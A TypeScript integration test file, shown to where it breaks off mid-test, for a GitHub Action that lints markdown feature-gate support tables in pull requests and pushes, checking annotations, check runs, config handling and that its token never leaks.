/**
 * The bundled Action as a process, against a real git repository and a fake
 * REST API. Run `npm run bundle` first (`npm test` does).
 */
import { execFileSync } from 'node:child_process';
import { existsSync, mkdirSync, readFileSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import {
  ACTION,
  cleanup,
  annotationsOf,
  commands,
  contentsOf,
  makeRepo,
  OWNER,
  pullRequestPayload,
  REPO,
  runAction,
  startApi,
  tempFolder,
  TOKEN,
  patchOf,
  workflowRunPayload,
  type ApiBehaviour,
  type FakeApi,
  type Files,
  type PullFileEntry,
  type Repo,
  type RunResult,
} from './harness.js';

const gates = (rows: string[], notes: string[]): string =>
  [
    '# Feature gates on s390x',
    '',
    'FEATURE GATE | GRADUATION | STATUS',
    '-- | -- | --',
    ...rows,
    '',
    '## Notes',
    '',
    ...notes.map((n) => `- ${n}`),
    '',
  ].join('\n');

const ROWS = [
  'AlphaGate | Alpha | SUPPORTED',
  'BetaGate | Beta | UNSUPPORTED',
  'CpuGate | GA | SUPPORTED',
  'DiskGate | Beta | PENDING',
  'EchoGate | Beta | Supported',
];
const NOTES = ['**BetaGate**: needs hardware virtualization that s390x lacks.', '**DiskGate**: waits for the block driver.'];
const DOC = 'docs/gates.md';
/** Line of ROWS[i] in `gates(ROWS, ...)`. */
const rowLine = (i: number): number => 5 + i;

const PRE_EXISTING = `STATUS "Supported" of "EchoGate"`;

let api: FakeApi | undefined;
afterEach(async () => {
  await api?.close();
  api = undefined;
});
afterAll(cleanup);

beforeAll(() => {
  if (!existsSync(ACTION)) throw new Error(`${ACTION} is missing: run \`npm run bundle\` before these tests.`);
});

/**
 * Every run: the token never leaks (not in the log, the summary, the outputs
 * or anything sent to the API), there is never a stack trace, and the
 * stand-in rejected no request (it answers 422 where GitHub would).
 */
const checked = (result: RunResult, opts: { rejected?: boolean } = {}): RunResult => {
  const sent = JSON.stringify(api?.requests.map((r) => r.body) ?? []);
  for (const text of [result.stdout, result.stderr, result.summary, JSON.stringify(result.outputs), sent]) {
    expect(text).not.toContain(TOKEN);
    expect(text).not.toMatch(/\n\s+at .+:\d+:\d+\)?\n/);
  }
  if (!opts.rejected) expect(api?.rejected ?? []).toEqual([]);
  return result;
};

/** The files API's list for a PR from `base` to `head`, with each file's patch from git, as GitHub gives it. */
const filesOf = (repo: Repo, base: Files, head: Files): PullFileEntry[] =>
  Object.entries(head).map(([filename, text]) => {
    const status = text === null ? 'removed' : filename in base ? 'modified' : 'added';
    const patch = text === null ? undefined : patchOf(repo, filename);
    return { filename, status, ...(patch !== undefined ? { patch } : {}) };
  });

type PrBehaviour = Omit<ApiBehaviour, 'pullFiles'> & { pullFiles?: ApiBehaviour['pullFiles'] };

async function pr(
  base: Files,
  head: Files,
  behaviour: PrBehaviour = {},
  inputs: Record<string, string> = {},
  opts: { fork?: boolean; shallow?: boolean; rejected?: boolean; env?: Record<string, string>; eventText?: string; payload?: (repo: Repo) => unknown; baseMoves?: Files } = {},
) {
  const repo = makeRepo(base, head, { shallow: opts.shallow ?? false, ...(opts.baseMoves ? { baseMoves: opts.baseMoves } : {}) });
  const pullFiles = behaviour.pullFiles ?? filesOf(repo, base, head);
  await api?.close();
  api = await startApi({ pull: { headSha: repo.headSha }, ...(opts.shallow ? { contents: contentsOf(repo, [...new Set([...Object.keys(base), ...Object.keys(head)])]) } : {}), ...behaviour, pullFiles });
  const result = checked(
    await runAction({
      repo,
      api,
      event: 'pull_request',
      payload: opts.payload ? opts.payload(repo) : pullRequestPayload(repo, { fork: opts.fork ?? false }),
      inputs,
      ...(opts.env ? { env: opts.env } : {}),
      ...(opts.eventText !== undefined ? { eventText: opts.eventText } : {}),
    }),
    { rejected: opts.rejected ?? false },
  );
  return { repo, result, requests: api.requests, api };
}

const checkRuns = (requests: FakeApi['requests']) => requests.filter((r) => r.path.includes('/check-runs'));

describe('the Action on pull requests', () => {
  it('fails on a new finding on a changed row, annotates the cell, and leaves the pre-existing one ungated', async () => {
    const head = ROWS.map((r) => (r.startsWith('CpuGate') ? 'CpuGate | Graduated | SUPPORTED' : r));
    const { repo, result, requests } = await pr({ [DOC]: gates(ROWS, NOTES) }, { [DOC]: gates(head, NOTES) });

    expect(result.code).toBe(1);
    const errors = annotationsOf(result.stdout, requests, 'error').filter((e) => e.props['file']);
    expect(errors).toEqual([
      {
        props: { title: 'allowed-values', file: DOC, line: String(rowLine(2)), endLine: String(rowLine(2)), col: '11', endColumn: '19' },
        message: 'GRADUATION "Graduated" of "CpuGate" is not one of Alpha, Beta, GA, Deprecated, Discontinued.',
      },
    ]);
    const notices = commands(result.stdout, 'notice');
    expect(notices.map((n) => n.props['title'])).toEqual(['allowed-values (pre-existing)']);
    expect(notices[0]?.message).toContain(PRE_EXISTING);
    expect(result.stdout).toContain('::error::support-table-lint found 1 new error in support tables (fail-on: error); see the annotations or the job summary.');
    expect(result.outputs).toMatchObject({ errors: '1', warnings: '0', existing: '1', 'files-checked': '1', 'tables-checked': '1' });

    expect(result.summary).toContain('**1 new error**, 1 pre-existing · 1 file, 1 table checked');
    expect(result.summary).toContain(`[${DOC}:${rowLine(2)}](https://github.com/${OWNER}/${REPO}/blob/${repo.headSha}/${DOC}#L${rowLine(2)})`);
    expect(result.summary).toMatch(/<details><summary>1 pre-existing finding[^]*EchoGate[^]*<\/details>/);

    // The files API was asked with the token, page by page; the check run went to the PR head, not the merge commit.
    const fileRequests = requests.filter((r) => r.path.endsWith('/pulls/7/files'));
    expect(fileRequests.length).toBeGreaterThanOrEqual(1);
    expect(fileRequests[0]?.authorization).toBe(`token ${TOKEN}`);
    const runs = checkRuns(requests);
    expect(runs).toHaveLength(1);
    expect(runs[0]?.body).toMatchObject({
      name: 'support-table-lint',
      head_sha: repo.headSha,
      status: 'completed',
      conclusion: 'failure',
      output: { title: '1 new error', annotations: [{ path: DOC, start_line: rowLine(2), annotation_level: 'failure', title: 'allowed-values' }] },
    });
    expect(repo.checkedOut).not.toBe(repo.headSha);
  });

  it('catches a new finding on an unchanged row: the note of an UNSUPPORTED gate deleted', async () => {
    const { result, requests } = await pr({ [DOC]: gates(ROWS, NOTES) }, { [DOC]: gates(ROWS, NOTES.slice(1)) });
    expect(result.code).toBe(1);
    const errors = annotationsOf(result.stdout, requests, 'error').filter((e) => e.props['file']);
    expect(errors).toHaveLength(1);
    expect(errors[0]?.props).toMatchObject({ title: 'note-required', file: DOC, line: String(rowLine(1)) });
    expect(errors[0]?.message).toContain('"BetaGate" is UNSUPPORTED but has no note');
    expect(result.outputs).toMatchObject({ errors: '1', existing: '1' });
  });

  it('says a config under a name it does not read is not read, and judges with the presets', async () => {
    const misnamed = { 'support-table-lint.yml': 'tables:\n  - files: ["docs/**"]\n    preset: kubevirt-feature-gates\n' };
    const { result } = await pr({ ...misnamed, [DOC]: gates(ROWS, NOTES) }, { [DOC]: gates(['AaaGate | GA | SUPPORTED', ...ROWS], NOTES) });
    expect(result.code).toBe(0);
    expect(commands(result.stdout, 'notice').map((n) => n.message)).toContainEqual(
      'support-table-lint.yml is not read: the Action reads the config named by its `config` input (.github/support-table-lint.yml), or .support-table-lint.yml; rename the file, or set `config: support-table-lint.yml`.',
    );
  });

  it('passes when the only finding was already at the base, even though the PR moved its line', async () => {
    const head = ['AaaGate | GA | SUPPORTED', ...ROWS];
    const { result, requests } = await pr({ [DOC]: gates(ROWS, NOTES) }, { [DOC]: gates(head, NOTES) });
    expect(result.code).toBe(0);
    expect(commands(result.stdout, 'error')).toEqual([]);
    expect(result.outputs).toMatchObject({ errors: '0', warnings: '0', existing: '1' });
    expect(result.summary).toContain('**no new errors or warnings**, 1 pre-existing');
    expect(checkRuns(requests)[0]?.body).toMatchObject({ conclusion: 'success', output: { annotations: [] } });
  });

  it("gates on a base config's option that checks nothing, though the base had the same finding: it is about the config, never old news", async () => {
    const CONFIG = '.github/support-table-lint.yml';
    const config = 'tables:\n  - files: ["docs/**"]\n    preset: kubevirt-feature-gates\n    transitions:\n      GRADUATON: { GA: [] }\n';
    const head = ['AaaGate | GA | SUPPORTED', ...ROWS];
    const { result, requests } = await pr({ [CONFIG]: config, [DOC]: gates(ROWS, NOTES) }, { [CONFIG]: config, [DOC]: gates(head, NOTES) });
    expect(result.code).toBe(1);
    const errors = annotationsOf(result.stdout, requests, 'error').filter((e) => e.props['file'] === DOC);
    expect(errors.map((e) => e.props['title'])).toEqual(['option-column']);
    expect(errors[0]?.message).toContain('names the column "GRADUATON"');
  });

  it('judges a PR that loosens the config with the base config, and says so', async () => {
    const config = (extra: string) => `tables:\n  - files: ["docs/**"]\n    preset: kubevirt-feature-gates\n${extra}`;
    const CONFIG = '.github/support-table-lint.yml';
    const head = ROWS.map((r) => (r.startsWith('CpuGate') ? 'CpuGate | Graduated | SUPPORTED' : r));
    const { result, requests } = await pr(
      { [CONFIG]: config(''), [DOC]: gates(ROWS, NOTES) },
      { [CONFIG]: config('severities:\n  allowed-values: "off"\n'), [DOC]: gates(head, NOTES) },
    );
    expect(result.code).toBe(1);
    expect(annotationsOf(result.stdout, requests, 'error').filter((e) => e.props['file'] === DOC)).toHaveLength(1);
    const notice = commands(result.stdout, 'notice').find((n) => n.message.includes('trusted-config'));
    expect(notice?.message).toBe(
      `This pull request changes ${CONFIG}; it is judged with the config of its base commit (trusted-config: base). The new rules apply once it is merged.`,
    );
    expect(result.summary).toContain('trusted-config: base');

    // With trusted-config: head the PR's own config applies and nothing fails.
    const trusting = await pr(
      { [CONFIG]: config(''), [DOC]: gates(ROWS, NOTES) },
      { [CONFIG]: config('severities:\n  allowed-values: "off"\n'), [DOC]: gates(head, NOTES) },
      {},
      { 'trusted-config': 'head' },
    );
    expect(trusting.result.code).toBe(0);
    expect(trusting.result.outputs['errors']).toBe('0');
  });

  it('reports a broken config in the PR while judging with the base one', async () => {
    const CONFIG = '.github/support-table-lint.yml';
    const good = 'tables:\n  - files: ["docs/**"]\n    preset: kubevirt-feature-gates\n';
    const { result, requests } = await pr({ [CONFIG]: good, [DOC]: gates(ROWS, NOTES) }, { [CONFIG]: 'tables: []\n' });
    expect(result.code).toBe(1);
    // Said once, on the config file's line, and not contradicted: no "nothing reaches the threshold", no "the new rules apply once merged".
    const errors = commands(result.stdout, 'error');
    expect(errors).toHaveLength(1);
    expect(errors[0]!.props).toMatchObject({ title: 'support-table-lint: config', file: CONFIG, line: '1' });
    expect(errors[0]!.message).toMatch(/^This pull request's config is broken and will fail once merged: \.github\/support-table-lint\.yml:1: tables/);
    expect(result.summary).toMatch(/^## support-table-lint\n\n:x: This pull request's config is broken and will fail once merged: \.github\/support-table-lint\.yml:1: tables/);
    expect(result.summary).not.toContain('Nothing reaches the failure threshold');
    expect(result.stdout + result.summary).not.toContain('The new rules apply once it is merged');
    const [run] = checkRuns(requests);
    expect((run!.body as { conclusion: string; output: { title: string; summary: string } }).output.title).toBe("the pull request's config does not load; no new errors or warnings");
    expect((run!.body as { output: { summary: string } }).output.summary).toContain("This pull request's config is broken");
  });

  it('sends more than 50 findings to the check run in batches, and repeats none of them as a workflow-command annotation', async () => {
    const many = Array.from({ length: 60 }, (_, i) => `Gate${String(i).padStart(3, '0')} | Graduated | SUPPORTED`);
    const { repo, result, requests } = await pr({ [DOC]: gates(ROWS, NOTES) }, { 'docs/many.md': gates(many, []) });
    expect(result.code).toBe(1);
    expect(result.outputs).toMatchObject({ errors: '60', existing: '0' });
    // The check run has put each finding on its cell: a workflow command would show it twice.
    expect(commands(result.stdout, 'error').filter((e) => e.props['file'])).toEqual([]);
    expect(annotationsOf(result.stdout, requests, 'error').filter((e) => e.props['file'])).toHaveLength(60);
    expect(commands(result.stdout, 'notice').map((n) => n.message)).not.toContainEqual(expect.stringMatching(/more findings are not shown/));
    const runs = checkRuns(requests);
    expect(runs.map((r) => [r.method, (r.body as { output: { annotations: unknown[] } }).output.annotations.length])).toEqual([
      ['POST', 50],
      ['PATCH', 10],
    ]);
    expect(runs[1]?.path).toMatch(/\/check-runs\/\d+$/);
    expect((runs[0]?.body as { head_sha: string }).head_sha).toBe(repo.headSha);
    expect((result.summary.match(/^\| error \|/gm) ?? []).length).toBe(60);
  });

  it('falls back to annotations with one notice on a 403 from check runs, without failing the step', async () => {
    const head = ['AaaGate | GA | SUPPORTED', ...ROWS];
    const { result, requests } = await pr({ [DOC]: gates(ROWS, NOTES) }, { [DOC]: gates(head, NOTES) }, { checkRunStatus: 403 });
    expect(result.code).toBe(0);
    expect(checkRuns(requests)).toHaveLength(1);
    const notices = commands(result.stdout, 'notice').filter((n) => n.message.includes('check run'));
    expect(notices.map((n) => n.message)).toEqual([
      'No support-table-lint check run: the token may not create check runs (pull requests from forks and read-only tokens cannot; grant `checks: write` otherwise). The findings are in these annotations and the job summary.',
    ]);
  });

  it('does not try a check run for a fork PR with check-run: auto', async () => {
    const { result, requests } = await pr({ [DOC]: gates(ROWS, NOTES) }, { [DOC]: gates(['AaaGate | GA | SUPPORTED', ...ROWS], NOTES) }, {}, {}, { fork: true });
    expect(result.code).toBe(0);
    expect(checkRuns(requests)).toEqual([]);
  });

  it('lists the changed files with git when the files API answers 500', async () => {
    const head = ROWS.map((r) => (r.startsWith('CpuGate') ? 'CpuGate | Graduated | SUPPORTED' : r));
    const { result, requests } = await pr({ [DOC]: gates(ROWS, NOTES), 'docs/other.md': gates(ROWS, NOTES) }, { [DOC]: gates(head, NOTES) }, { pullFiles: 500 });
    expect(requests.some((r) => r.path.endsWith('/pulls/7/files'))).toBe(true);
    expect(result.code).toBe(1);
    expect(result.outputs).toMatchObject({ errors: '1', 'files-checked': '1' });
    expect(commands(result.stdout, 'notice').map((n) => n.message)).toContain(
      'Listed the changed files with git because the pull request files API failed (HTTP 500: Server Error).',
    );
  });

  it('follows renames and reads the base through the contents API in a shallow clone', async () => {
    const base = { [DOC]: gates(ROWS, NOTES) };
    const repoProbe = { pullFiles: [{ filename: 'docs/renamed.md', status: 'renamed', previous_filename: DOC }] };
    const deprecated = ROWS.map((row) => row.replace('CpuGate | GA', 'CpuGate | Deprecated'));
    const shallowRepo = makeRepo(base, { [DOC]: null, 'docs/renamed.md': gates(deprecated, NOTES) }, { shallow: true });
    api = await startApi({ ...repoProbe, contents: { [`${shallowRepo.baseSha}:${DOC}`]: gates(ROWS, NOTES) } });
    const result = checked(await runAction({ repo: shallowRepo, api, event: 'pull_request', payload: pullRequestPayload(shallowRepo) }));
    expect(result.code).toBe(0);
    expect(result.outputs).toMatchObject({ errors: '0', existing: '1', 'files-checked': '1' });
    const contents = api.requests.filter((r) => r.path.includes('/contents/'));
    expect(contents.map((r) => [decodeURIComponent(r.path), r.query.get('ref')])).toContainEqual([`/repos/${OWNER}/${REPO}/contents/${DOC}`, shallowRepo.baseSha]);
    // The support changes name the file as it is now, and the name it had.
    expect(result.summary).toContain(`docs/renamed.md#L3) \\(renamed from docs/gates.md\\)`);
    expect(result.summary).toContain('| changed | CpuGate | GRADUATION: GA → **Deprecated** |');
  });

  it('reads a base through the contents API as bytes, under the size budget: a base that is not UTF-8 is said, not read as U+FFFD', async () => {
    const latin1 = Buffer.from(gates(ROWS, NOTES).replace('## Notes', '## Notes \u00e9'), 'latin1');
    const shallowRepo = makeRepo({ [DOC]: gates(ROWS, NOTES) }, { [DOC]: gates(ROWS, NOTES) }, { shallow: true });
    api = await startApi({ pullFiles: [{ filename: DOC, status: 'modified' }], contents: { [`${shallowRepo.baseSha}:${DOC}`]: latin1 } });
    const result = checked(await runAction({ repo: shallowRepo, api, event: 'pull_request', payload: pullRequestPayload(shallowRepo) }));
    expect(result.summary).toMatch(/Before this change: docs\/gates\.md [^|]*UTF-8/);
    // Over the budget (11 MiB, the default budget 10): said, and compared with nothing.
    const big = makeRepo({ [DOC]: gates(ROWS, NOTES) }, { [DOC]: gates(ROWS, NOTES) }, { shallow: true });
    await api.close();
    api = await startApi({ pullFiles: [{ filename: DOC, status: 'modified' }], contents: { [`${big.baseSha}:${DOC}`]: 'x'.repeat(11 * 1024 * 1024) } });
    const over = checked(await runAction({ repo: big, api, event: 'pull_request', payload: pullRequestPayload(big) }));
    expect(over.summary).toMatch(/Before this change: docs\/gates\.md [^|]*size budget/);
  });

  it('writes the JSON report and SARIF when asked', async () => {
    const { repo, result } = await pr({ [DOC]: gates(ROWS, NOTES) }, { [DOC]: gates(ROWS, NOTES.slice(1)) }, {}, { 'report-file': 'out/report.json', 'sarif-file': 'out/lint.sarif' });
    expect(result.outputs).toMatchObject({ 'report-file': 'out/report.json', 'sarif-file': 'out/lint.sarif' });
    const report = JSON.parse(readFileSync(join(repo.dir, 'out/report.json'), 'utf8')) as { violations: { rule: string }[] };
    expect(report.violations.map((v) => v.rule).sort()).toEqual(['allowed-values', 'note-required']);
    const sarif = JSON.parse(readFileSync(join(repo.dir, 'out/lint.sarif'), 'utf8')) as { version: string };
    expect(sarif.version).toBe('2.1.0');
  });

  it('fails with what to do, not a stack trace, on a bad input', async () => {
    const { result } = await pr({ [DOC]: gates(ROWS, NOTES) }, { [DOC]: gates(ROWS, NOTES) }, {}, { 'fail-on': 'sometimes' });
    expect(result.code).toBe(1);
    expect(result.stdout).toContain('::error::support-table-lint: Input "fail-on" is "sometimes"; use one of "error", "warning", "never".');
  });
});

describe('how rows changed (transitions, lost tables, the keyed diff)', () => {
  it('fails on a regression and a forbidden removal, and shows the support changes first in the summary', async () => {
    // CpuGate GA → Alpha (forbidden), AlphaGate Alpha → Beta (allowed), DiskGate (Beta) removed (forbidden).
    const head = ['AlphaGate | Beta | SUPPORTED', 'BetaGate | Beta | UNSUPPORTED', 'CpuGate | Alpha | SUPPORTED', 'EchoGate | Beta | Supported'];
    const { result, requests } = await pr({ [DOC]: gates(ROWS, NOTES) }, { [DOC]: gates(head, NOTES) });
    expect(result.code).toBe(1);
    const errors = annotationsOf(result.stdout, requests, 'error').filter((e) => e.props['title'] === 'transition');
    expect(errors.map((e) => [e.props['line'], e.message])).toEqual([
      ['3', '"DiskGate" was removed while its GRADUATION was Beta; a row may be removed only when GRADUATION is GA, Deprecated or Discontinued. Put the row back; to retire it, change its GRADUATION to GA, Deprecated or Discontinued first, and remove it in a later change.'],
      ['7', 'GRADUATION of "CpuGate" went from GA to Alpha; from GA it may only go to Deprecated.'],
    ]);
    const changes = result.summary.indexOf('### Support changes');
    expect(changes).toBeGreaterThan(0);
    expect(changes).toBeLessThan(result.summary.indexOf('### New findings'));
    expect(result.summary).toContain('| changed | AlphaGate | GRADUATION: Alpha → **Beta** |');
    expect(result.summary).toContain('| changed | CpuGate | GRADUATION: GA → **Alpha** |');
    expect(result.summary).toContain('| removed | DiskGate | was GRADUATION Beta, STATUS PENDING |');
  });

  it('an allowed removal, a rename and moved rows pass, and the summary shows the rename', async () => {
    // CpuGate (GA) removed: allowed. DiskGate renamed DiskGates (same cells). Rows reordered.
    const head = ['BetaGate | Beta | UNSUPPORTED', 'AlphaGate | Alpha | SUPPORTED', 'DiskGates | Beta | PENDING', 'EchoGate | Beta | Supported'];
    const notes = [NOTES[0]!, '**DiskGates**: waits for the block driver.'];
    const { result } = await pr({ [DOC]: gates(ROWS, NOTES) }, { [DOC]: gates(head, notes) }, {}, { 'fail-on': 'error' });
    expect(commands(result.stdout, 'error').filter((e) => e.props['title'] === 'transition')).toEqual([]);
    expect(result.outputs['errors']).toBe('0');
    expect(result.code).toBe(0);
    expect(result.summary).toContain('| renamed | DiskGate → DiskGates | |');
    expect(result.summary).toContain('| removed | CpuGate | was GRADUATION GA, STATUS SUPPORTED |');
  });

  it('a pull request that deletes the page fails on the gates that may not go, annotated on the deleted file, and the summary lists every row it took', async () => {
    const { result, requests } = await pr({ [DOC]: gates(ROWS, NOTES), 'docs/other.md': '# Other\n' }, { [DOC]: null });
    expect(result.code).toBe(1);
    const errors = annotationsOf(result.stdout, requests, 'error').filter((e) => e.props['file'] !== undefined);
    expect(errors.map((e) => [e.props['file'], e.props['line'], e.props['title'], e.message])).toEqual([
      [
        DOC,
        '1',
        'transition',
        '4 rows went with this file, deleted while GRADUATION was not GA, Deprecated or Discontinued (AlphaGate: Alpha, BetaGate: Beta, DiskGate: Beta, EchoGate: Beta; the table stood at line 3); a row may be removed only when GRADUATION is GA, Deprecated or Discontinued. Restore the file; to retire a row, change its GRADUATION to GA, Deprecated or Discontinued first, and remove it in a later change.',
      ],
    ]);
    // The deleted file has no blob at the head to link to, and no head lines to move: named as it stood.
    expect(result.summary).toContain('**docs/gates.md:3 \\(file deleted\\)** <code>FEATURE GATE &#124; GRADUATION &#124; STATUS</code>');
    expect(result.summary).toContain('| error | docs/gates.md \\(file deleted\\) | transition | 4 rows went with this file');
    for (const row of ROWS) expect(result.summary).toContain(`| removed | ${row.split(' | ')[0]} |`);
    // Compared, not checked; and the head lines of the merge commit were not looked for in a file that is gone.
    expect(result.outputs['files-checked']).toBe('0');
    expect(result.stdout).not.toContain('could not be read or compared');
  });

  it('with scope: all and no list of changed files (API failing, shallow clone), a deletion it could not judge is said, never a silent pass', async () => {
    for (const pullFiles of [500, 'not-a-list'] as const) {
      const { result, requests } = await pr({ [DOC]: gates(ROWS, NOTES), 'docs/other.md': '# Other\n' }, { [DOC]: null, 'docs/other.md': '# Other, edited\n' }, { pullFiles }, { scope: 'all' }, { shallow: true });
      const said = commands(result.stdout, 'notice').map((n) => n.message);
      expect(said).toContainEqual(
        expect.stringMatching(/^Could not list the files this pull request changed: .* Every matching file was checked, but a file the change deleted or renamed was not compared with its base version, so the rows it removed were not judged\. Fetch the history in actions\/checkout \(`fetch-depth: 0`\) to have them judged\.$/),
      );
      expect(result.summary).toContain('a file the change deleted or renamed was not compared with its base version');
      // The list is asked for once (each try waits out the API's retries).
      const listings = requests.filter((r) => /\/pulls\/\d+\/files$/.test(r.path)).length;
      expect(listings).toBeGreaterThan(0);
      expect(listings).toBeLessThanOrEqual(3);
    }
  });

  it('a page whose gates may all go (GA, Deprecated) may be deleted: the summary still lists the rows it took', async () => {
    const retired = ['CpuGate | GA | SUPPORTED', 'OldGate | Deprecated | SUPPORTED'];
    const { result } = await pr({ [DOC]: gates(retired, []), 'docs/other.md': '# Other\n' }, { [DOC]: null });
    expect(annotationsOf(result.stdout, api!.requests, 'error')).toEqual([]);
    expect(result.code).toBe(0);
    expect(result.summary).toContain('| removed | OldGate | was GRADUATION Deprecated, STATUS SUPPORTED |');
  });

  it('a header edit that takes the table out of the README config\'s check fails the run', async () => {
    const config = { '.github/support-table-lint.yml': 'tables:\n  - files: ["docs/**"]\n    preset: kubevirt-feature-gates\n' };
    const renamed = gates(ROWS, NOTES).replace('GRADUATION | STATUS', 'STAGE | STA\u200bTE');
    const { result, requests } = await pr({ ...config, [DOC]: gates(ROWS, NOTES) }, { [DOC]: renamed });
    expect(result.code).toBe(1);
    expect(annotationsOf(result.stdout, requests, 'error').map((e) => e.props['title'])).toContain('table-unchecked');
  });

  it('a suppression comment the pull request adds passes the check, and the summary and log show what it silenced', async () => {
    const head = `<!-- support-table-lint-disable-file -->\n${gates([...ROWS, 'NewGate | Graduated | Sure'], NOTES)}`;
    const { result } = await pr({ [DOC]: gates(ROWS, NOTES) }, { [DOC]: head });
    expect(result.code).toBe(0);
    expect(result.stdout).toMatch(/, \d+ suppressed by comments or ignore: entries\./);
    expect(result.summary).toMatch(/, \d+ suppressed · /);
    expect(result.summary).toContain('suppressed by comments or <code>ignore:</code> entries');
    expect(result.summary).toContain('GRADUATION "Graduated"');
    expect(result.summary).toContain('| _none given_ |');
  });

  it('scope: all follows renames too: a page only moved to another folder introduces nothing, and a fix on a changed line is suggested', async () => {
    const moved = 'docs/moved/gates.md';
    const pullFiles = [{ filename: moved, status: 'renamed', previous_filename: DOC }];
    const renamedOnly = await pr({ [DOC]: gates(ROWS, NOTES) }, { [DOC]: null, [moved]: gates(ROWS, NOTES) }, { pullFiles }, { scope: 'all' });
    expect(renamedOnly.result.code).toBe(0);
    expect(renamedOnly.result.outputs['errors']).toBe('0');
    expect(Number(renamedOnly.result.outputs['existing'])).toBeGreaterThan(0);
    const { requests } = await pr(BASE_DOC, TYPO_AND_UNSORTED, {}, { scope: 'all' });
    expect(reviews(requests).flatMap((review) => (review.body as { comments: { line: number }[] }).comments.map((c) => c.line))).toEqual([KVM_LINE]);
  });

  it.each([
    ['out of the config entry\'s files', 'docs/gates-v2.md'],
    ['out of the `files` input (gates.MD)', 'docs/gates.MD'],
  ])('renaming the file %s does not take its table out of the check', async (_, renamed) => {
    const config = { '.github/support-table-lint.yml': `tables:\n  - files: ["${DOC}"]\n    preset: kubevirt-feature-gates\n` };
    const broken = gates([...ROWS, 'NewGate | Graduated | Sure'], NOTES);
    const pullFiles = [{ filename: renamed, status: 'renamed', previous_filename: DOC }];
    const { result, requests } = await pr({ ...config, [DOC]: gates(ROWS, NOTES) }, { [DOC]: null, [renamed]: broken }, { pullFiles });
    expect(result.code).toBe(1);
    const lost = annotationsOf(result.stdout, requests, 'error').filter((e) => e.props['title'] === 'table-unchecked');
    expect(lost.map((e) => e.props['file'])).toEqual([renamed]);
    // Its header is the same: the message says the file is what changed, not the header.
    expect(lost[0]!.message).toContain('nothing checks it now, though its header is the same: the file is no longer one the config checks');
  });

  it.each([
    ['and the page', true],
    ['alone: the page that references it is checked too', false],
  ])('a pull request that changes the source of truth %s gets its reference findings as new, not pre-existing', async (_name, touchesPage) => {
    const registry = (names: string[]) => JSON.stringify({ gates: names.map((name) => ({ name })) });
    const keys = ROWS.map((row) => row.split(' | ')[0]!);
    const config = {
      '.github/support-table-lint.yml':
        'sources:\n  gates: { file: hack/gates.json, items: /gates, key: name }\ntables:\n  - files: ["docs/**"]\n    preset: kubevirt-feature-gates\n    references: [{ source: gates, unknown: error, unlisted: error }]\n',
    };
    // The PR drops BetaGate from the registry, adds NewGate, and touches the page's heading or leaves the page alone.
    const page: Record<string, string> = touchesPage ? { [DOC]: gates(ROWS, NOTES).replace('# Feature gates on s390x', '# Feature gates on s390x (v2)') } : {};
    const head = { 'hack/gates.json': registry([...keys.filter((key) => key !== 'BetaGate'), 'NewGate']), ...page };
    const { result, requests } = await pr({ ...config, 'hack/gates.json': registry(keys), [DOC]: gates(ROWS, NOTES) }, head, {}, { 'fail-on': 'error' });
    const errors = annotationsOf(result.stdout, requests, 'error').filter((e) => e.props['title'] !== undefined);
    expect(errors.map((e) => [e.props['title'], e.message.split(',')[0]])).toEqual([
      ['reference-unlisted', 'gates has "NewGate"'],
      ['reference-unknown', 'FEATURE GATE "BetaGate" is not in gates: no item has name "BetaGate". Fix the name'],
    ]);
    // EchoGate's "Supported" was there before, and stays pre-existing.
    expect(result.outputs).toMatchObject({ errors: '2', existing: '1' });
    expect(result.code).toBe(1);
  });

  it('a delimiter row broken by one cell, which turns the table into text, fails the run', async () => {
    const config = { '.github/support-table-lint.yml': 'tables:\n  - files: ["docs/**"]\n    preset: kubevirt-feature-gates\n' };
    const broken = gates(ROWS, NOTES).replace(/^-- \| -- \| --$/m, '-- | --').replace('Beta | PENDING', 'Alpha | Bogus');
    expect(broken).not.toBe(gates(ROWS, NOTES));
    const { result, requests } = await pr({ ...config, [DOC]: gates(ROWS, NOTES) }, { [DOC]: broken });
    expect(result.code).toBe(1);
    // The table is gone, and its gates that could not go went with it: one finding each, where it stood.
    expect(annotationsOf(result.stdout, requests, 'error').filter((e) => e.props['file']).map((e) => e.props['title'])).toEqual(['table-unchecked', 'transition']);
    expect(result.summary).toMatch(/\| removed \| DiskGate \|/);
  });

  it('a new page with the .markdown extension is linted with the default inputs, as the CLI lints it', async () => {
    const config = { '.github/support-table-lint.yml': 'tables:\n  - files: ["docs/**"]\n    preset: kubevirt-feature-gates\n' };
    const page = gates(ROWS, NOTES).replace('Beta | PENDING', 'Beta | Bogus');
    const { result, requests } = await pr({ ...config, [DOC]: gates(ROWS, NOTES) }, { 'docs/riscv64.markdown': page });
    expect(result.code).toBe(1);
    expect(result.outputs['files-checked']).toBe('1');
    expect(annotationsOf(result.stdout, requests, 'error').filter((e) => /Bogus/.test(e.message)).map((e) => e.props['file'])).toEqual(['docs/riscv64.markdown']);
  });
});

describe('the Action on other events', () => {
  it('checks every matching file on workflow_dispatch (scope: all), every finding gating', async () => {
    const repo = makeRepo({ [DOC]: gates(ROWS, NOTES), 'docs/two.md': gates(ROWS.slice(0, 3), NOTES), 'notes.txt': 'x' }, {}, { merge: false });
    api = await startApi({});
    const result = checked(await runAction({ repo, api, event: 'workflow_dispatch', payload: { inputs: {} }, inputs: { 'fail-on': 'never' } }));
    expect(result.code).toBe(0);
    // docs/two.md keeps a note for a gate it does not list: a warning.
    expect(result.outputs).toMatchObject({ 'files-checked': '2', 'tables-checked': '2', errors: '1', warnings: '1', existing: '0' });
    expect(api.requests.filter((r) => r.path.includes('/pulls/'))).toEqual([]);
    expect(checkRuns(api.requests)[0]?.body).toMatchObject({ head_sha: repo.checkedOut, conclusion: 'success' });
    expect(result.summary).toContain('**1 error and 1 warning** · 2 files, 2 tables checked');
  });

  it('compares a push with its before commit', async () => {
    const head = ROWS.map((r) => (r.startsWith('CpuGate') ? 'CpuGate | Graduated | SUPPORTED' : r));
    const repo = makeRepo({ [DOC]: gates(ROWS, NOTES), 'docs/untouched.md': gates(['ZedGate | Omega | SUPPORTED'], []) }, { [DOC]: gates(head, NOTES) }, { merge: false });
    api = await startApi({});
    const result = checked(
      await runAction({ repo, api, event: 'push', payload: { ref: 'refs/heads/pr', before: repo.baseSha, after: repo.headSha, commits: [] }, sha: repo.headSha }),
    );
    expect(result.code).toBe(1);
    expect(result.outputs).toMatchObject({ errors: '1', existing: '1', 'files-checked': '1' });
    expect(annotationsOf(result.stdout, api.requests, 'error').find((e) => e.props['file'])?.message).toContain('"CpuGate"');
